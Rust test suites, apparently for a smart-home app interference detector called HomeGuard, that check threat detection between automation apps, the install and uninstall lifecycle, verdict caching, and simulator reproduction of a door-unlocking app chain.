input "l", "capability.illuminanceMeasurement"
input "w", "capability.switch", title: "window opener"
def installed() { subscribe(l, "illuminance", h) }
def h(evt) { if (evt.value < 10) { w.on() } }
"#,
        "GoalB",
    );
    assert!(kinds.contains(&ThreatKind::GoalConflict), "{kinds:?}");
}

#[test]
fn table1_covert_triggering() {
    // A1 ↦ T2, C1 ∩ C2 ≠ ∅.
    let kinds = detect(
        r#"
input "p", "capability.presenceSensor"
input "tv", "capability.switch", title: "the TV"
def installed() { subscribe(p, "presence.present", h) }
def h(evt) { tv.on() }
"#,
        "CovertA",
        r#"
input "tv", "capability.switch", title: "the TV"
input "w", "capability.switch", title: "window opener"
def installed() { subscribe(tv, "switch.on", h) }
def h(evt) { w.on() }
"#,
        "CovertB",
    );
    assert!(kinds.contains(&ThreatKind::CovertTriggering), "{kinds:?}");
}

#[test]
fn table1_self_disabling() {
    // A1 ↦ T2, C1 ∩ C2 ≠ ∅, A2 = ¬A1.
    let kinds = detect(
        r#"
input "m", "capability.motionSensor"
input "ac", "capability.switch", title: "air conditioner"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { ac.on() }
"#,
        "SelfA",
        r#"
input "meter", "capability.powerMeter"
input "ac", "capability.switch", title: "air conditioner"
def installed() { subscribe(meter, "power", h) }
def h(evt) { if (evt.value > 3000) { ac.off() } }
"#,
        "SelfB",
    );
    assert!(kinds.contains(&ThreatKind::SelfDisabling), "{kinds:?}");
}

#[test]
fn table1_loop_triggering() {
    // A1 ↦ T2, A2 ↦ T1, C1 ∩ C2 ≠ ∅, A1 = ¬A2.
    let kinds = detect(
        r#"
input "l", "capability.illuminanceMeasurement"
input "lamp", "capability.switch", title: "lights"
def installed() { subscribe(l, "illuminance", h) }
def h(evt) { if (evt.value < 30) { lamp.on() } }
"#,
        "LoopA",
        r#"
input "l", "capability.illuminanceMeasurement"
input "lamp", "capability.switch", title: "lights"
def installed() { subscribe(l, "illuminance", h) }
def h(evt) { if (evt.value > 50) { lamp.off() } }
"#,
        "LoopB",
    );
    assert!(kinds.contains(&ThreatKind::LoopTriggering), "{kinds:?}");
}

#[test]
fn table1_enabling_condition() {
    // A1 ⇒ C2.
    let kinds = detect(
        r#"
input "p", "capability.presenceSensor"
input "door", "capability.lock", title: "front door"
def installed() { subscribe(p, "presence.not present", h) }
def h(evt) { door.lock() }
"#,
        "EnableA",
        r#"
input "m", "capability.motionSensor"
input "door", "capability.lock", title: "front door"
input "cam", "capability.switch", title: "camera outlet"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { if (door.currentLock == "locked") { cam.on() } }
"#,
        "EnableB",
    );
    assert!(kinds.contains(&ThreatKind::EnablingCondition), "{kinds:?}");
}

#[test]
fn table1_disabling_condition() {
    // A1 ⇏ C2 (falsifies a subset of C2's constraints).
    let kinds = detect(
        r#"
input "lamp", "capability.switch", title: "floor lamp"
def installed() { subscribe(lamp, "switch.on", h) }
def h(evt) { runIn(300, off) }
def off() { lamp.off() }
"#,
        "DisableA",
        r#"
input "lamp", "capability.switch", title: "floor lamp"
input "m", "capability.motionSensor"
input "siren", "capability.alarm"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { if (lamp.currentSwitch == "on") { siren.siren() } }
"#,
        "DisableB",
    );
    assert!(kinds.contains(&ThreatKind::DisablingCondition), "{kinds:?}");
}

#[test]
fn negative_controls_produce_no_threats() {
    // Disjoint devices, no shared environment channel, no overlap.
    let kinds = detect(
        r#"
input "d", "capability.contactSensor", title: "mailbox"
input "phone1", "phone"
def installed() { subscribe(d, "contact.open", h) }
def h(evt) { sendSms(phone1, "mail") }
"#,
        "NegA",
        r#"
input "leak", "capability.waterSensor"
input "phone1", "phone"
def installed() { subscribe(leak, "water.wet", h) }
def h(evt) { sendSms(phone1, "leak") }
"#,
        "NegB",
    );
    assert!(kinds.is_empty(), "{kinds:?}");
}

#[test]
fn same_command_same_actuator_is_not_a_race() {
    let kinds = detect(
        r#"
input "d", "capability.contactSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(d, "contact.open", h) }
def h(evt) { lamp.on() }
"#,
        "SameA",
        r#"
input "d", "capability.contactSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(d, "contact.open", h) }
def h(evt) { lamp.on() }
"#,
        "SameB",
    );
    assert!(!kinds.contains(&ThreatKind::ActuatorRace), "{kinds:?}");
}

#[test]
fn non_overlapping_conditions_suppress_race() {
    // Contradictory commands, but mutually exclusive modes: no overlap.
    let kinds = detect(
        r#"
input "d", "capability.contactSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(d, "contact.open", h) }
def h(evt) { if (location.mode == "Home") { lamp.on() } }
"#,
        "ExclA",
        r#"
input "d", "capability.contactSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(d, "contact.open", h) }
def h(evt) { if (location.mode == "Away") { lamp.off() } }
"#,
        "ExclB",
    );
    assert!(!kinds.contains(&ThreatKind::ActuatorRace), "{kinds:?}");
}
