//! End-to-end system tests: the full HomeGuard pipeline from Groovy source
//! through instrumentation, configuration collection, installation-time
//! detection, frontend rendering and dynamic verification in the simulator.

use hg_config::{instrument, ConfigInfo, Transport};
use hg_detector::ThreatKind;
use hg_rules::value::Value;
use hg_sim::Device;
use homeguard_core::{frontend, Home as GuardedHome, RuleStore};
use homeguard_integration_tests::rules_of;

#[test]
fn install_flow_with_collected_configuration() {
    // Full §VII pipeline: instrument → URI → record → detect.
    let comfort = hg_corpus::benign_app("ComfortTV").unwrap();
    let cold = hg_corpus::benign_app("ColdDefender").unwrap();

    // The instrumented apps still behave identically for extraction.
    let instrumented = instrument(comfort.source, comfort.name, Transport::Sms).unwrap();
    assert_eq!(
        rules_of(comfort.source, comfort.name).len(),
        rules_of(&instrumented, comfort.name).len()
    );

    // The phone app receives config URIs and feeds the home session.
    let mut home = GuardedHome::new(RuleStore::shared());
    let cfg1 = ConfigInfo::new("ComfortTV")
        .bind_device("tv1", "tv-1")
        .bind_device("tSensor", "temp-1")
        .bind_device("window1", "win-1")
        .set_value("threshold1", Value::from_natural(30));
    let uri = cfg1.to_uri();
    let parsed = ConfigInfo::from_uri(&uri).unwrap();
    let first = home
        .install_app(comfort.source, comfort.name, Some(&parsed))
        .unwrap();
    assert!(first.installed, "clean install auto-confirms");

    let cfg2 = ConfigInfo::new("ColdDefender")
        .bind_device("tv1", "tv-1")
        .bind_device("rain", "rain-1")
        .bind_device("window1", "win-1");
    let report = home
        .install_app(cold.source, cold.name, Some(&cfg2))
        .unwrap();
    assert!(report
        .threats
        .iter()
        .any(|t| t.kind == ThreatKind::ActuatorRace));
    assert!(!report.installed, "dirty install awaits the user's verdict");

    // The frontend renders the report with the witness situation.
    let text = frontend::interpret_report(&report);
    assert!(text.contains("[AR]"), "{text}");
    assert!(text.contains("occurs when"), "{text}");
}

#[test]
fn whole_corpus_through_forced_install() {
    // Install the entire device-controlling corpus sequentially with forced
    // confirmation; the session must survive and accumulate the Allowed
    // list.
    let mut home = GuardedHome::new(RuleStore::shared());
    let mut total_threats = 0usize;
    for app in hg_corpus::device_control_apps().iter().take(30) {
        let report = home.install_app_forced(app.source, app.name, None).unwrap();
        assert!(report.installed);
        total_threats += report.threats.len();
    }
    assert!(
        total_threats > 0,
        "a realistic store slice must interfere somewhere"
    );
    assert_eq!(home.allowed().len(), total_threats);
}

#[test]
fn unconfirmed_installs_leave_no_trace() {
    // The install_app footgun fix: a rejected dirty report must leave the
    // home exactly as it was.
    let mut home = GuardedHome::new(RuleStore::shared());
    let comfort = hg_corpus::benign_app("ComfortTV").unwrap();
    let cold = hg_corpus::benign_app("ColdDefender").unwrap();
    home.install_app(comfort.source, comfort.name, None)
        .unwrap();
    let installed_before = home.installed_rules().len();

    let report = home.install_app(cold.source, cold.name, None).unwrap();
    assert!(!report.is_clean() && !report.installed);
    // The user deletes the app instead: nothing was recorded.
    drop(report);
    assert_eq!(home.installed_rules().len(), installed_before);
    assert!(home.allowed().is_empty());
}

#[test]
fn detected_race_reproduces_in_simulator() {
    // Static verdict → dynamic confirmation, the §VIII-B methodology.
    let on_rules = rules_of(
        r#"
input "d", "capability.contactSensor"
input "w", "capability.switch", title: "window opener"
def installed() { subscribe(d, "contact.open", h) }
def h(evt) { w.on() }
"#,
        "OpenApp",
    );
    let off_rules = rules_of(
        r#"
input "d", "capability.contactSensor"
input "w", "capability.switch", title: "window opener"
def installed() { subscribe(d, "contact.open", h) }
def h(evt) { w.off() }
"#,
        "CloseApp",
    );
    let det = hg_detector::Detector::store_wide();
    let (threats, _) = det.detect_pair(&on_rules[0], &off_rules[0]);
    assert!(threats.iter().any(|t| t.kind == ThreatKind::ActuatorRace));

    // Reproduce dynamically across schedules.
    let unify = hg_detector::Unification::ByType;
    let mut outcomes = std::collections::BTreeSet::new();
    for seed in 0..24 {
        let mut home = hg_sim::Home::new(seed);
        home.add_device(Device::new(
            "type:contactSensor/unknown",
            "door",
            "contactSensor",
            hg_capability::device_kind::DeviceKind::Unknown,
        ));
        home.add_device(Device::new(
            "type:switch/windowOpener",
            "window",
            "switch",
            hg_capability::device_kind::DeviceKind::WindowOpener,
        ));
        home.install_rule(unify.unify_rule(&on_rules[0]));
        home.install_rule(unify.unify_rule(&off_rules[0]));
        home.stimulate("type:contactSensor/unknown", "contact", Value::sym("open"));
        outcomes.insert(home.attr("type:switch/windowOpener", "switch").cloned());
    }
    assert!(
        outcomes.len() > 1,
        "the race must be observable: {outcomes:?}"
    );
}

#[test]
fn rule_database_persists_and_reloads() {
    let store = RuleStore::shared();
    let mut home = GuardedHome::new(store.clone());
    let app = hg_corpus::benign_app("MakeItSo").unwrap();
    home.install_app(app.source, app.name, None).unwrap();
    let size = store.rule_file_size("MakeItSo").unwrap();
    assert!(size > 100, "rule file suspiciously small: {size}");
    let reloaded = store.rules_of("MakeItSo").unwrap();
    assert_eq!(reloaded.len(), 2);
}

#[test]
fn covert_chain_unlocks_door_in_simulator() {
    // §VIII-B case 2: CurlingIron → SwitchChangesMode → MakeItSo ends with
    // the door unlocked on mere motion — reproduce dynamically.
    use hg_detector::Unification;
    use std::collections::BTreeMap;

    let mut bindings = BTreeMap::new();
    for (app, input, id) in [
        ("CurlingIron", "motion1", "motion-1"),
        ("CurlingIron", "outlets", "switch-1"),
        ("SwitchChangesMode", "toggle", "switch-1"),
        ("MakeItSo", "door", "door-1"),
        ("MakeItSo", "switches", "switch-2"),
    ] {
        bindings.insert((app.to_string(), input.to_string()), id.to_string());
    }
    let unify = Unification::Bindings(bindings);

    let mut home = hg_sim::Home::new(5);
    home.add_device(Device::new(
        "motion-1",
        "bath motion",
        "motionSensor",
        hg_capability::device_kind::DeviceKind::Unknown,
    ));
    home.add_device(Device::new(
        "switch-1",
        "vanity outlet",
        "switch",
        hg_capability::device_kind::DeviceKind::Outlet,
    ));
    home.add_device(Device::new(
        "switch-2",
        "hall switch",
        "switch",
        hg_capability::device_kind::DeviceKind::Light,
    ));
    home.add_device(Device::new(
        "door-1",
        "front door",
        "lock",
        hg_capability::device_kind::DeviceKind::Lock,
    ));
    home.mode = "Away".to_string();

    for name in ["CurlingIron", "SwitchChangesMode", "MakeItSo"] {
        let app = hg_corpus::benign_app(name).unwrap();
        for rule in rules_of(app.source, app.name) {
            home.install_rule(unify.unify_rule(&rule));
        }
    }
    assert_eq!(home.attr("door-1", "lock"), Some(&Value::sym("locked")));
    // A burglar spoofs the motion sensor (CO2 laser, §VIII-B)...
    home.stimulate("motion-1", "motion", Value::sym("active"));
    // ...and the chain unlocks the front door. (CurlingIron's 30-minute
    // outlet timeout later re-locks it via the same chain, so assert on the
    // trace: the door WAS unlocked while the burglar stood outside.)
    assert!(
        home.attr_history("door-1", "lock")
            .contains(&&Value::sym("unlocked")),
        "chain never unlocked the door: {:#?}",
        home.trace
    );
}
