//! Differential retraction harness: random install / uninstall / upgrade
//! sequences must leave the incrementally maintained detection state
//! **identical** to a from-scratch rebuild of the surviving population.
//!
//! Two levels, both seeded (SplitMix64, as in `tests/properties.rs` and
//! `tests/runtime_fuzz.rs`, so every sequence reproduces from its seed):
//!
//! * engine level — lifecycle ops over the real benign+malicious corpus
//!   drive `DetectionEngine::{install_rules, remove_app}` directly; after
//!   every op a probe app must get the identical threat set from the
//!   churned engine and a freshly rebuilt one;
//! * session level — lifecycle ops through the full `Home` API (forced
//!   installs, uninstalls, forced upgrades) must leave installed rules,
//!   the Allowed list *and the compiled mediation points* identical to a
//!   fresh session that only ever saw the surviving apps — in particular,
//!   an uninstalled app's rules produce **zero** mediation points.

use hg_detector::{DetectionEngine, Detector, Threat, ThreatKind};
use hg_rules::rule::Rule;
use hg_symexec::{extract, ExtractorConfig};
use homeguard_core::{Home, PolicyTable, RuleStore};

/// SplitMix64, as in `tests/properties.rs`.
struct Gen {
    state: u64,
}

impl Gen {
    fn new(seed: u64) -> Gen {
        Gen {
            state: seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0xd1b5_4a32_d192_ed03,
        }
    }

    fn next(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn range(&mut self, lo: usize, hi: usize) -> usize {
        lo + (self.next() % (hi - lo) as u64) as usize
    }
}

/// Canonical, comparable threat key (as in `tests/differential.rs`).
fn key(t: &Threat) -> (ThreatKind, String, String) {
    let s = t.source.to_string();
    let d = t.target.to_string();
    if t.kind.is_directed() || s <= d {
        (t.kind, s, d)
    } else {
        (t.kind, d, s)
    }
}

fn sorted_keys(threats: &[Threat]) -> Vec<(ThreatKind, String, String)> {
    let mut keys: Vec<_> = threats.iter().map(key).collect();
    keys.sort();
    keys
}

/// Extracted rule sets of the benign + malicious corpus apps that yield
/// rules, re-identified under unique labels so a benign and a malicious
/// app sharing a name cannot collide and `remove_app(label)` matches the
/// installed rule identities exactly.
fn corpus_rule_sets() -> Vec<(String, Vec<Rule>)> {
    let config = ExtractorConfig::extended();
    let mut out = Vec::new();
    for app in hg_corpus::benign_apps() {
        if let Ok(analysis) = extract(app.source, app.name, &config) {
            if !analysis.rules.is_empty() {
                out.push((analysis.name.clone(), analysis.rules));
            }
        }
    }
    for app in hg_corpus::MALICIOUS_APPS {
        if let Ok(analysis) = extract(app.source, app.name, &config) {
            if !analysis.rules.is_empty() {
                let label = format!("mal::{}", analysis.name);
                let rules = reidentify(&analysis.rules, &label);
                out.push((label, rules));
            }
        }
    }
    out
}

/// Re-identifies a donor rule set as `app` (the "v2" of an upgrade): same
/// automation, new ownership.
fn reidentify(rules: &[Rule], app: &str) -> Vec<Rule> {
    rules
        .iter()
        .map(|r| {
            let mut r = r.clone();
            r.id.app = app.to_string();
            r
        })
        .collect()
}

#[test]
fn engine_retraction_matches_fresh_rebuild_over_corpus() {
    let corpus = corpus_rule_sets();
    assert!(corpus.len() > 50, "corpus suspiciously small");

    let mut installs = 0usize;
    let mut uninstalls = 0usize;
    let mut upgrades = 0usize;
    for seed in 0..6 {
        let mut g = Gen::new(seed);
        let mut engine = DetectionEngine::new(Detector::store_wide());
        // The mirror: what a from-scratch rebuild would install.
        let mut live: Vec<(String, Vec<Rule>)> = Vec::new();

        for _ in 0..24 {
            match g.range(0, 100) {
                // Install an app not currently live (rules re-identified so
                // repeat installs across seeds cannot collide).
                0..=49 => {
                    let (name, rules) = &corpus[g.range(0, corpus.len())];
                    if live.iter().any(|(n, _)| n == name) {
                        continue;
                    }
                    engine.install_rules(rules);
                    live.push((name.clone(), rules.clone()));
                    installs += 1;
                }
                // Uninstall a random live app.
                50..=74 => {
                    if live.is_empty() {
                        continue;
                    }
                    let victim = g.range(0, live.len());
                    let (name, _) = live.remove(victim);
                    let removed = engine.remove_app(&name);
                    assert!(!removed.is_empty(), "{name} had rules installed");
                    uninstalls += 1;
                }
                // Upgrade a random live app to another corpus app's
                // automation (re-identified), exercising remove + add.
                _ => {
                    if live.is_empty() {
                        continue;
                    }
                    let slot = g.range(0, live.len());
                    let app = live[slot].0.clone();
                    let (_, donor) = &corpus[g.range(0, corpus.len())];
                    let v2 = reidentify(donor, &app);
                    engine.remove_app(&app);
                    engine.install_rules(&v2);
                    live[slot].1 = v2;
                    upgrades += 1;
                }
            }

            // Differential: a probe app must see the identical threat set
            // from the churned engine and a fresh rebuild of `live`.
            let mut fresh = DetectionEngine::new(Detector::store_wide());
            for (_, rules) in &live {
                fresh.install_rules(rules);
            }
            assert_eq!(engine.len(), fresh.len(), "seed {seed}: live rule counts");
            let churned_ids: Vec<String> =
                engine.installed_rules().map(|r| r.id.to_string()).collect();
            let fresh_ids: Vec<String> =
                fresh.installed_rules().map(|r| r.id.to_string()).collect();
            let (mut a, mut b) = (churned_ids.clone(), fresh_ids.clone());
            a.sort();
            b.sort();
            assert_eq!(a, b, "seed {seed}: installed populations diverge");

            let (_, probe) = &corpus[g.range(0, corpus.len())];
            let (churned_threats, _) = engine.check(probe);
            let (fresh_threats, _) = fresh.check(probe);
            assert_eq!(
                sorted_keys(&churned_threats),
                sorted_keys(&fresh_threats),
                "seed {seed}: probe threat sets diverge after lifecycle churn"
            );
        }
    }
    // The property must not hold vacuously.
    assert!(installs >= 30, "only {installs} installs exercised");
    assert!(uninstalls >= 15, "only {uninstalls} uninstalls exercised");
    assert!(upgrades >= 10, "only {upgrades} upgrades exercised");
}

/// Synthetic palette for session-level lifecycle fuzzing: every app
/// subscribes to one sensor and commands one actuator, so pairs race,
/// covertly trigger, or stay unrelated depending on the draw.
const SENSORS: [(&str, &str, &str); 3] = [
    ("capability.motionSensor", "motion", "active"),
    ("capability.contactSensor", "contact", "open"),
    ("capability.waterSensor", "water", "wet"),
];

const ACTUATORS: [(&str, &str, [&str; 2]); 3] = [
    ("capability.switch", "lamp", ["on", "off"]),
    ("capability.alarm", "siren", ["siren", "off"]),
    ("capability.lock", "door", ["lock", "unlock"]),
];

fn palette_source(name: &str, sensor: usize, actuator: usize, command: usize) -> String {
    let (s_cap, s_attr, s_val) = SENSORS[sensor];
    let (a_cap, a_title, commands) = ACTUATORS[actuator];
    let cmd = commands[command];
    format!(
        r#"
definition(name: "{name}")
input "t", "{s_cap}"
input "a", "{a_cap}", title: "{a_title}"
def installed() {{ subscribe(t, "{s_attr}.{s_val}", h) }}
def h(evt) {{ a.{cmd}() }}
"#
    )
}

#[test]
fn cached_detection_matches_uncached_over_seeded_churn() {
    // The verdict-cache differential: two sessions over ONE shared store —
    // one consulting the fleet verdict cache (the default), one with
    // sharing disabled (the uncached ground truth) — replay identical
    // seeded lifecycle scripts. Every report must carry bit-identical
    // threats (witnesses, notes, everything) and identical stats modulo
    // the hit/miss markers; after the churn the Allowed lists and compiled
    // mediation points must agree. Upgrades and uninstalls are in the
    // script, so a stale verdict surviving an app replacement would
    // surface as a divergent post-upgrade report.
    let mut hits_total = 0u64;
    let mut upgrades = 0usize;
    let mut uninstalls = 0usize;
    let mut dirty_reports = 0usize;
    for seed in 0..12 {
        let mut g = Gen::new(0xcafe ^ seed);
        let store = RuleStore::shared();
        // Two cached sessions replay the identical script — the second is
        // the "neighbor home" whose checks should be answered from the
        // first one's solving — plus the uncached ground truth.
        let mut cached = Home::builder(store.clone())
            .handling_policy(PolicyTable::block_all())
            .build();
        let mut twin = Home::builder(store.clone())
            .handling_policy(PolicyTable::block_all())
            .build();
        let mut plain = Home::builder(store.clone())
            .handling_policy(PolicyTable::block_all())
            .verdict_sharing(false)
            .build();
        let mut live: Vec<String> = Vec::new();

        for step in 0..14 {
            match g.range(0, 100) {
                0..=54 => {
                    let name = format!("Cache{seed}x{step}");
                    let source = palette_source(&name, g.range(0, 3), g.range(0, 3), g.range(0, 2));
                    let a = cached.install_app_forced(&source, &name, None).unwrap();
                    let t = twin.install_app_forced(&source, &name, None).unwrap();
                    let b = plain.install_app_forced(&source, &name, None).unwrap();
                    for (label, report) in [("cached", &a), ("twin", &t)] {
                        assert_eq!(
                            report.threats, b.threats,
                            "seed {seed} step {step}: {label} install threats diverge"
                        );
                        assert_eq!(
                            report.stats.logical(),
                            b.stats.logical(),
                            "seed {seed} step {step}: {label} logical stats diverge"
                        );
                    }
                    assert_eq!(b.stats.cache_hits + b.stats.cache_misses, 0);
                    // The twin's pairs repeat the first session's work.
                    assert_eq!(t.stats.cache_hits, t.stats.pairs);
                    hits_total += t.stats.cache_hits;
                    if !a.is_clean() {
                        dirty_reports += 1;
                    }
                    live.push(name);
                }
                55..=74 => {
                    if live.is_empty() {
                        continue;
                    }
                    let name = live.remove(g.range(0, live.len()));
                    let a = cached.uninstall_app(&name).unwrap();
                    let t = twin.uninstall_app(&name).unwrap();
                    let b = plain.uninstall_app(&name).unwrap();
                    assert_eq!(a.removed_rules, b.removed_rules);
                    assert_eq!(t.removed_rules, b.removed_rules);
                    assert_eq!(a.retired_threats, b.retired_threats);
                    uninstalls += 1;
                }
                _ => {
                    if live.is_empty() {
                        continue;
                    }
                    let name = live[g.range(0, live.len())].clone();
                    let v2 = palette_source(&name, g.range(0, 3), g.range(0, 3), g.range(0, 2));
                    let a = cached.upgrade_app_forced(&v2, &name, None).unwrap();
                    let t = twin.upgrade_app_forced(&v2, &name, None).unwrap();
                    let b = plain.upgrade_app_forced(&v2, &name, None).unwrap();
                    for (label, report) in [("cached", &a), ("twin", &t)] {
                        assert_eq!(
                            report.threats, b.threats,
                            "seed {seed} step {step}: {label} post-upgrade threats diverge \
                             (a stale verdict survived the replacement?)"
                        );
                        assert_eq!(report.stats.logical(), b.stats.logical());
                    }
                    hits_total += t.stats.cache_hits;
                    upgrades += 1;
                }
            }

            // Between ops: a probe check must agree bit-identically too.
            let probe = format!("Probe{seed}x{step}");
            let probe_src = palette_source(&probe, g.range(0, 3), g.range(0, 3), g.range(0, 2));
            store.ingest(&probe_src, &probe).unwrap();
            let a = cached.check_install(&probe).unwrap();
            let t = twin.check_install(&probe).unwrap();
            let b = plain.check_install(&probe).unwrap();
            assert_eq!(
                a.threats, b.threats,
                "seed {seed} step {step}: probe diverges"
            );
            assert_eq!(
                t.threats, b.threats,
                "seed {seed} step {step}: twin probe diverges"
            );
            assert_eq!(a.stats.logical(), b.stats.logical());
            assert_eq!(t.stats.logical(), b.stats.logical());
            hits_total += t.stats.cache_hits;
            store.retire_app(&probe);
        }

        for (label, home) in [("cached", &cached), ("twin", &twin)] {
            assert_eq!(
                sorted_keys(home.allowed()),
                sorted_keys(plain.allowed()),
                "seed {seed}: {label} Allowed lists diverge"
            );
        }
        assert_eq!(
            cached.mediation_index().len(),
            plain.mediation_index().len(),
            "seed {seed}: mediation point counts diverge"
        );
        let points = |home: &mut Home| {
            let mut v: Vec<(String, String)> = home
                .mediation_index()
                .points()
                .iter()
                .map(|p| (p.source.to_string(), p.target.to_string()))
                .collect();
            v.sort();
            v
        };
        assert_eq!(
            points(&mut cached),
            points(&mut plain),
            "seed {seed}: mediation points diverge"
        );
    }
    // Not vacuous: the cache served real traffic, churn really replaced
    // and retired apps, and interference actually surfaced.
    assert!(hits_total >= 50, "only {hits_total} cache hits exercised");
    assert!(upgrades >= 10, "only {upgrades} upgrades exercised");
    assert!(uninstalls >= 10, "only {uninstalls} uninstalls exercised");
    assert!(dirty_reports >= 10, "only {dirty_reports} dirty installs");
}

#[test]
fn home_lifecycle_matches_fresh_session_replay() {
    let mut uninstalls = 0usize;
    let mut upgrades = 0usize;
    let mut nonempty_mediation = 0usize;
    for seed in 0..16 {
        let mut g = Gen::new(0xbeef ^ seed);
        let mut home = Home::builder(RuleStore::shared())
            .handling_policy(PolicyTable::block_all())
            .build();
        // The mirror: (name, source) of every app surviving the churn, in
        // the order a fresh session would install them.
        let mut live: Vec<(String, String)> = Vec::new();

        for step in 0..12 {
            match g.range(0, 100) {
                0..=54 => {
                    let name = format!("App{seed}x{step}");
                    let source = palette_source(&name, g.range(0, 3), g.range(0, 3), g.range(0, 2));
                    let report = home.install_app_forced(&source, &name, None).unwrap();
                    assert!(report.installed);
                    live.push((name, source));
                }
                55..=79 => {
                    if live.is_empty() {
                        continue;
                    }
                    let (name, _) = live.remove(g.range(0, live.len()));
                    home.uninstall_app(&name).unwrap();
                    uninstalls += 1;
                }
                _ => {
                    if live.is_empty() {
                        continue;
                    }
                    let slot = g.range(0, live.len());
                    let name = live[slot].0.clone();
                    let v2 = palette_source(&name, g.range(0, 3), g.range(0, 3), g.range(0, 2));
                    let report = home.upgrade_app_forced(&v2, &name, None).unwrap();
                    assert!(report.installed && report.is_upgrade());
                    live[slot].1 = v2;
                    upgrades += 1;
                }
            }
        }

        // A fresh session that only ever saw the survivors.
        let mut fresh = Home::builder(RuleStore::shared())
            .handling_policy(PolicyTable::block_all())
            .build();
        for (name, source) in &live {
            fresh.install_app_forced(source, name, None).unwrap();
        }

        // Compared as sets: an upgrade legitimately moves an app to the
        // end of the churned home's install order.
        let mut churned_rules: Vec<String> = home
            .installed_rules()
            .iter()
            .map(|r| r.to_string())
            .collect();
        let mut fresh_rules: Vec<String> = fresh
            .installed_rules()
            .iter()
            .map(|r| r.to_string())
            .collect();
        churned_rules.sort();
        fresh_rules.sort();
        assert_eq!(
            churned_rules, fresh_rules,
            "seed {seed}: surviving rules diverge"
        );

        assert_eq!(
            sorted_keys(home.allowed()),
            sorted_keys(fresh.allowed()),
            "seed {seed}: Allowed lists diverge after churn"
        );

        // The compiled mediation points agree, and no point references an
        // app outside the surviving population — an uninstalled app's
        // rules produce zero mediation points.
        let fresh_points = fresh.mediation_index().len();
        let index = home.mediation_index();
        assert_eq!(
            index.len(),
            fresh_points,
            "seed {seed}: mediation point counts diverge"
        );
        for point in index.points() {
            for rule in [&point.source, &point.target] {
                assert!(
                    live.iter().any(|(name, _)| *name == rule.app),
                    "seed {seed}: mediation point references retired app {rule}"
                );
            }
        }
        if !index.is_empty() {
            nonempty_mediation += 1;
        }
    }
    // Not vacuous: the sequences actually retired and replaced apps, and
    // some surviving populations still interfere.
    assert!(uninstalls >= 10, "only {uninstalls} uninstalls exercised");
    assert!(upgrades >= 10, "only {upgrades} upgrades exercised");
    assert!(
        nonempty_mediation >= 4,
        "only {nonempty_mediation} seeds ended with live mediation points"
    );
}
