//! Differential retraction harness: random install / uninstall / upgrade
//! sequences must leave the incrementally maintained detection state
//! **identical** to a from-scratch rebuild of the surviving population.
//!
//! Two levels, both seeded (SplitMix64, as in `tests/properties.rs` and
//! `tests/runtime_fuzz.rs`, so every sequence reproduces from its seed):
//!
//! * engine level — lifecycle ops over the real benign+malicious corpus
//!   drive `DetectionEngine::{install_rules, remove_app}` directly; after
//!   every op a probe app must get the identical threat set from the
//!   churned engine and a freshly rebuilt one;
//! * session level — lifecycle ops through the full `Home` API (forced
//!   installs, uninstalls, forced upgrades) must leave installed rules,
//!   the Allowed list *and the compiled mediation points* identical to a
//!   fresh session that only ever saw the surviving apps — in particular,
//!   an uninstalled app's rules produce **zero** mediation points.

use hg_detector::{DetectionEngine, Detector, Threat, ThreatKind};
use hg_rules::rule::Rule;
use hg_symexec::{extract, ExtractorConfig};
use homeguard_core::{Home, PolicyTable, RuleStore};

/// SplitMix64, as in `tests/properties.rs`.
struct Gen {
    state: u64,
}

impl Gen {
    fn new(seed: u64) -> Gen {
        Gen {
            state: seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0xd1b5_4a32_d192_ed03,
        }
    }

    fn next(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn range(&mut self, lo: usize, hi: usize) -> usize {
        lo + (self.next() % (hi - lo) as u64) as usize
    }
}

/// Canonical, comparable threat key (as in `tests/differential.rs`).
fn key(t: &Threat) -> (ThreatKind, String, String) {
    let s = t.source.to_string();
    let d = t.target.to_string();
    if t.kind.is_directed() || s <= d {
        (t.kind, s, d)
    } else {
        (t.kind, d, s)
    }
}

fn sorted_keys(threats: &[Threat]) -> Vec<(ThreatKind, String, String)> {
    let mut keys: Vec<_> = threats.iter().map(key).collect();
    keys.sort();
    keys
}

/// Extracted rule sets of the benign + malicious corpus apps that yield
/// rules, re-identified under unique labels so a benign and a malicious
/// app sharing a name cannot collide and `remove_app(label)` matches the
/// installed rule identities exactly.
fn corpus_rule_sets() -> Vec<(String, Vec<Rule>)> {
    let config = ExtractorConfig::extended();
    let mut out = Vec::new();
    for app in hg_corpus::benign_apps() {
        if let Ok(analysis) = extract(app.source, app.name, &config) {
            if !analysis.rules.is_empty() {
                out.push((analysis.name.clone(), analysis.rules));
            }
        }
    }
    for app in hg_corpus::MALICIOUS_APPS {
        if let Ok(analysis) = extract(app.source, app.name, &config) {
            if !analysis.rules.is_empty() {
                let label = format!("mal::{}", analysis.name);
                let rules = reidentify(&analysis.rules, &label);
                out.push((label, rules));
            }
        }
    }
    out
}

/// Re-identifies a donor rule set as `app` (the "v2" of an upgrade): same
/// automation, new ownership.
fn reidentify(rules: &[Rule], app: &str) -> Vec<Rule> {
    rules
        .iter()
        .map(|r| {
            let mut r = r.clone();
            r.id.app = app.to_string();
            r
        })
        .collect()
}

#[test]
fn engine_retraction_matches_fresh_rebuild_over_corpus() {
    let corpus = corpus_rule_sets();
    assert!(corpus.len() > 50, "corpus suspiciously small");

    let mut installs = 0usize;
    let mut uninstalls = 0usize;
    let mut upgrades = 0usize;
    for seed in 0..6 {
        let mut g = Gen::new(seed);
